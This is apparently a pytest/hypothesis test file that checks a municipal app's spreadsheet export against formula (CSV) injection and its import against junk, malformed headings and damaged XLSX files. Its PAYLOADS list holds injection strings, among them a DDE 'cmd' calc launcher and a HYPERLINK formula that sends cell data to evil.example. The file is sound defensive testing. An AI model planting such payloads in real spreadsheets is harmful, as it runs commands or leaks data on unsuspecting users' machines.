"""Borgerblikket's sheet files under attack: formula injection on export, junk on import.

tests/borgerblikket/test_sheets.py covers the sheet's rules line by line; this
adds what a hostile or broken file does: any cell text, dates that are not
dates, wrong or duplicated headings, bytes that are no spreadsheet. The plan
must name each bad line and its reason, refuse a bad file with SheetFileError
(no other exception), and write nothing. An export must never hand a
spreadsheet program a formula (OWASP "CSV injection").
"""

import csv
import datetime as dt
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from borgerblikket.models import SheetChange, SheetImport, SheetRow
from borgerblikket.services.sheet_io import (
    HEADERS,
    SheetFileError,
    sheet_export,
    sheet_import_plan,
)
from tests.borgerblikket import factories as f

pytestmark = [pytest.mark.django_db, pytest.mark.postgres]

FUZZ = settings(
    max_examples=12,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Any text a cell can hold (XLSX refuses control characters; the export drops them).
cell_text = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=20)


def _written():
    return SheetRow.objects.count(), SheetChange.objects.count(), SheetImport.objects.count()


def _cells(data: bytes, file_format: str) -> list[list]:
    """Every cell as a spreadsheet program would load it (formulas as formulas)."""
    if file_format == "xlsx":
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]  # not data_only: see formulas
        return [list(row) for row in sheet.iter_rows()]
    delimiter = "\t" if file_format == "tsv" else ","
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("file_format", ["csv", "tsv", "xlsx"])
@FUZZ
@given(
    text=st.one_of(
        st.sampled_from(PAYLOADS),
        st.tuples(st.sampled_from(FORMULA_STARTS), cell_text).map("".join),
    ),
    column=st.sampled_from(["display_name", "contact_department", "self_service_name"]),
)
def test_export_never_hands_a_spreadsheet_a_formula(file_format, text, column):
    odense = f.municipality("461")
    SheetRow.objects.filter(municipality=odense).delete()
    f.SheetRowFactory(
        kle_subject=f.kle_subject("32.24.04", "Hjælp til forsørgelse"),
        show_from=dt.date(2020, 1, 2),
        **{column: text},
    )
    data = sheet_export(municipality=odense, file_format=file_format)
    for row in _cells(data, file_format)[1:]:
        for cell in row:
            if file_format == "xlsx":
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                value = cell.value
            else:
                value = cell
            assert not (isinstance(value, str) and value.startswith(FORMULA_STARTS)), value
    # The escape is undone on import: the same file changes nothing (a value
    # with surrounding blanks cannot come from an import, which strips them).
    if text != text.strip():
        return
    plan = sheet_import_plan(municipality=odense, content=data, file_format=file_format)
    assert [line.action for line in plan.lines] == ["unchanged"], [
        (line.errors, line.changes) for line in plan.lines
    ]


def _file(rows: list[list], file_format: str) -> bytes:
    if file_format == "xlsx":
        book = Workbook()
        for row in rows:
            book.active.append(row)
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()
    out = io.StringIO()
    csv.writer(out, delimiter="\t" if file_format == "tsv" else ";").writerows(rows)
    return out.getvalue().encode()


junk_cell = st.one_of(
    cell_text,
    st.sampled_from(["31-02-2020", "2020-13-01", "00-00-0000", "1-1-99999", "i går", "32.24.04"]),
    st.sampled_from(["KLE", "", " ", "=1+1", "99.99.99", "32.24", "SBSYS"]),
)


@pytest.mark.parametrize("file_format", ["csv", "tsv", "xlsx"])
@FUZZ
@given(data=st.data())
def test_junk_lines_are_reported_by_line_and_nothing_is_written(file_format, data):
    odense = f.municipality("461")
    f.kle_subject("32.24.04", "Hjælp til forsørgelse")
    lines = data.draw(
        st.lists(st.lists(junk_cell, min_size=0, max_size=len(HEADERS) + 1), max_size=6)
    )
    content = _file([list(HEADERS), *lines], file_format)
    before = _written()
    plan = sheet_import_plan(municipality=odense, content=content, file_format=file_format)
    numbers = [line.line for line in plan.lines]
    assert numbers == sorted(set(numbers)) and all(2 <= n <= len(lines) + 1 for n in numbers)
    for line in plan.lines:
        if line.action == "reject":
            assert line.errors and all(isinstance(e, str) and e for e in line.errors)
        else:
            assert line.kle_number == "32.24.04"
    assert _written() == before


@FUZZ
@given(
    headings=st.lists(st.one_of(cell_text, st.sampled_from(HEADERS)), max_size=14),
    file_format=st.sampled_from(["csv", "tsv", "xlsx"]),
)
def test_any_heading_row_is_a_plan_or_a_clean_refusal(headings, file_format):
    content = _file([headings, ["KLE", "32.24.04", "", "", "01-01-2020"]], file_format)
    before = _written()
    try:
        sheet_import_plan(
            municipality=f.municipality("461"), content=content, file_format=file_format
        )
    except SheetFileError as exc:
        assert str(exc)
    assert _written() == before


@FUZZ
@given(content=st.binary(max_size=400), file_format=st.sampled_from(["csv", "tsv", "xlsx"]))
def test_bytes_that_are_no_sheet_are_refused_cleanly(content, file_format):
    before = _written()
    try:
        sheet_import_plan(
            municipality=f.municipality("461"), content=content, file_format=file_format
        )
    except SheetFileError as exc:
        assert str(exc)
    assert _written() == before


# --- the import endpoint: any file is a plan or a form error, never a 500 (issue 12.7) --------

ENDPOINT_FUZZ = settings(
    max_examples=25,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
EXTENSIONS = ["xlsx", "csv", "tsv", "ods", "json", "xls", "txt", ""]


@pytest.fixture
def import_client(client):
    f.kle_subject("32.24.04", "Hjælp til forsørgelse")
    client.force_login(f.municipal_admin("461", username="odense-admin"))
    return client


def _post(client, name: str, content: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    before = _written()
    response = client.post(
        reverse("admin:borgerblikket_sheetrow_import"),
        {"municipality": "461", "file": SimpleUploadedFile(name, content)},
    )
    # The test client re-raises a view's exception: reaching here means no 500.
    assert response.status_code == 200
    if "plan" in response.context:
        assert SheetImport.objects.count() == before[2] + 1  # the stored upload, nothing else
        assert _written()[:2] == before[:2]
        return response, None
    errors = response.context["form"].errors.get("file")
    assert errors and all(isinstance(e, str) and e.strip() for e in errors), response.context[
        "form"
    ].errors
    assert _written() == before
    return response, errors[0]


# Text a spreadsheet program or a hand edit may put in a CSV: quotes, separators,
# line ends of every kind, NUL, BOMs, a field near and over the csv module's limit.
csv_piece = st.one_of(
    cell_text,
    st.sampled_from(['"', '""', ";", ",", "\t", "\r", "\n", "\r\n", "\x00", "\ufeff", "'="]),
    st.sampled_from(["KLE", "32.24.04", "01-01-2020", "KLE-nr.", "Fradato for visning"]),
    st.integers(min_value=1, max_value=3).map(lambda k: "q" * (k * 70_000)),
)


@FUZZ
@given(
    pieces=st.lists(csv_piece, max_size=30),
    extension=st.sampled_from(["csv", "tsv"]),
    encoding=st.sampled_from(["utf-8", "utf-16", "cp1252", "latin-1"]),
)
def test_any_csv_text_is_a_plan_or_a_form_error(import_client, pieces, extension, encoding):
    text = "KLE-nr.;Fradato for visning\tKLE-nr.\n" + "".join(pieces)
    content = text.encode(encoding, errors="replace")
    _post(import_client, f"ark.{extension}", content[: 2 * 1024 * 1024])


@ENDPOINT_FUZZ
@given(
    content=st.binary(max_size=2000),
    extension=st.sampled_from(EXTENSIONS),
)
def test_any_bytes_under_any_extension_are_a_form_error_or_a_plan(
    import_client, content, extension
):
    name = f"ark.{extension}" if extension else "ark"
    _response, error = _post(import_client, name, content)
    if content and extension not in ("xlsx", "csv", "tsv"):
        assert error and ".xlsx" in error  # the formats the import reads are named


def _exported_xlsx() -> bytes:
    odense = f.municipality("461")
    SheetRow.objects.filter(municipality=odense).delete()
    f.SheetRowFactory(
        kle_subject=f.kle_subject("32.24.04", "Hjælp til forsørgelse"),
        show_from=dt.date(2020, 1, 2),
    )
    return sheet_export(municipality=odense, file_format="xlsx")


@ENDPOINT_FUZZ
@given(data=st.data())
def test_a_damaged_xlsx_is_a_form_error_or_a_plan(import_client, data):
    """A real export, cut, overwritten or patched at random places (zip directory,
    compressed streams, headers) — what a broken download or a hostile edit makes."""
    content = bytearray(_exported_xlsx())
    for _ in range(data.draw(st.integers(min_value=1, max_value=4))):
        action = data.draw(st.sampled_from(["cut", "flip", "splice"]))
        # A position independent of the export's length (its zip holds timestamps).
        at = data.draw(st.integers(min_value=0, max_value=1 << 20)) % len(content)
        if action == "cut":
            del content[at:]
        elif action == "flip":
            content[at] ^= data.draw(st.integers(min_value=1, max_value=255))
        else:
            content[at:at] = data.draw(st.binary(min_size=1, max_size=64))
        if not content:
            break
    _post(import_client, "ark.xlsx", bytes(content))


# Worksheet XML a hand-made or hostile XLSX may hold: every cell type SpreadsheetML
# has (ECMA-376 §18.18.11), with values that do not fit it.
xml_cell = st.one_of(
    st.builds(
        lambda t, v: f'<c t="{t}"><v>{v}</v></c>',
        st.sampled_from(["n", "s", "b", "d", "e", "str", "inlineStr", "zz"]),
        st.one_of(
            st.sampled_from(
                ["1e308", "-1e308", "NaN", "inf", "99999999", "-1", "x", "", "2020-13-45"]
            ),
            st.integers().map(str),
        ),
    ),
    st.builds(
        lambda text: f'<c t="inlineStr"><is><t>{text}</t></is></c>',
        st.text(alphabet="abc<>&;'\" æøå", max_size=20).map(
            lambda s: s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        ),
    ),
    st.sampled_from(['<c r="A0"/>', '<c r="ZZZZ9"/>', '<c r="1A"/>', "<c><f>1+1</f></c>"]),
)


@ENDPOINT_FUZZ
@given(rows=st.lists(st.lists(xml_cell, max_size=6), max_size=8))
def test_any_worksheet_cells_are_a_form_error_or_a_plan(import_client, rows):
    from tests.security import sheet_bombs

    header = '<row r="1"><c t="inlineStr"><is><t>KLE-nr.</t></is></c><c t="inlineStr"><is><t>Fradato for visning</t></is></c></row>'
    body = [header] + [f"<row>{''.join(cells)}</row>" for cells in rows]
    _post(import_client, "ark.xlsx", sheet_bombs.xlsx([sheet_bombs.worksheet(body)]))
